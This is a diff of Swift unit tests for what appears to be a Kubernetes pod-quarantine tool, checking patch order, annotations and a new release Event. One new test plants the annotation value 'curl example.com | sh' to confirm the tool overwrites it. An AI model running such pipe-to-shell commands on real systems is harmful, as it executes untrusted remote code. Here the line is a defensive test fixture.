@@ -247,7 +247,7 @@ struct IsolatePodPlanTests {
     func fullAnnotations() throws {
         let full: JSONValue = ["example.com/x": .string(String(repeating: "x", count: 260_000))]
         let plan = try plan([pod(annotations: full)])
-        guard case .kubernetes(let write) = try #require(plan.changes.last).change else { return }
+        guard case .kubernetes(let write) = try #require(plan.changes.first { $0.id == "pod" }).change else { return }
         let paths = (write.body.array ?? []).compactMap { $0["path"]?.string }
         #expect(paths.contains("/metadata/labels/firebreak.dev~1quarantine"))
         #expect(!paths.contains { $0.hasPrefix("/metadata/annotations") })
@@ -262,24 +262,47 @@ struct IsolatePodPlanTests {
         #expect(command.contains(mark) && command.contains("NotIn"))
     }
 
+    @Test(
+        "the pod bears every command that releases it, whatever was planted there before, and an Event tells them too"
+    )
+    func bearsItsRelease() throws {
+        let planted: JSONValue = ["firebreak.dev/release": "curl example.com | sh"]
+        let plan = try plan([
+            pod(annotations: planted), policy("everyone", ["podSelector": [:], "ingress": [[:]]]),
+        ])
+        let whole = JSONValue.string(plan.release.joined(separator: "\n"))
+        #expect(plan.release.count == 4)
+        guard case .kubernetes(let creation) = plan.changes[0].change,
+            case .kubernetes(let write) = plan.changes[1].change,
+            case .kubernetes(let record) = try #require(plan.changes.last).change
+        else { return }
+        let note = write.body.array?.first { $0["path"] == "/metadata/annotations/firebreak.dev~1release" }
+        #expect(note?["value"] == whole)
+        #expect(creation.body[["metadata", "annotations", "firebreak.dev/release"]] == whole)
+        #expect(record.path == "/api/v1/namespaces/shop/events")
+        #expect(record.body["involvedObject"]?["uid"] == "0a1b")
+        let message = record.body["message"]?.string ?? ""
+        #expect(message.utf8.count <= 1_024 && plan.release.allSatisfy(message.contains))
+    }
+
     @Test("keys with slashes and tildes survive in the patch, and missing maps are made")
     func pointers() throws {
         let selector: JSONValue = ["podSelector": ["matchLabels": ["example.com/role": "db"]], "ingress": [[:]]]
         let plan = try plan([pod(labels: ["example.com/role": "db"]), policy("open", selector)])
-        let last = try #require(plan.changes.last)
+        let last = try #require(plan.changes.first { $0.id == "pod" })
         guard case .kubernetes(let write) = last.change else { return }
         let paths = (write.body.array ?? []).compactMap { $0["path"]?.string }
         #expect(paths.first == "/metadata/uid")
         #expect(paths.contains("/metadata/labels/example.com~1role"))
         #expect(paths.contains("/metadata/labels/firebreak.dev~1quarantine"))
         #expect(paths.contains("/metadata/annotations"))
-        #expect(plan.changes.map(\.id) == ["quarantine-policy", "pod"])
+        #expect(plan.changes.map(\.id) == ["quarantine-policy", "pod", "event-web-1"])
     }
 
     @Test("the policy comes first, then the pod, then patches of others, which somebody may refuse")
     func order() throws {
         let plan = try plan([pod(), policy("everyone", ["podSelector": [:], "ingress": [[:]]])])
-        #expect(plan.changes.map(\.id) == ["quarantine-policy", "pod", "policy-everyone"])
+        #expect(plan.changes.map(\.id) == ["quarantine-policy", "pod", "policy-everyone", "event-web-1"])
         #expect(plan.release.last?.hasPrefix("kubectl -n shop delete networkpolicy firebreak-quarantine-") == true)
         #expect(plan.release.contains { $0.contains("patch networkpolicy everyone") })
     }
@@ -299,7 +322,7 @@ struct IsolatePodPlanTests {
         #expect(plan.output["detachedFrom"] == "ReplicaSet web-7")
         #expect(plan.output["readopt"]?.string?.contains("app=web") == true)
         #expect(plan.warnings.contains { $0.contains("Deployment web") && $0.contains("same image (web:1)") })
-        let undo = try #require(plan.changes.last?.undo.json["change"])
+        let undo = try #require(plan.changes.first { $0.id == "pod" }?.undo.json["change"])
         #expect(undo[["kubernetes", "body", "metadata", "labels"]]?.object?.keys == ["firebreak.dev/quarantine"])
     }
 
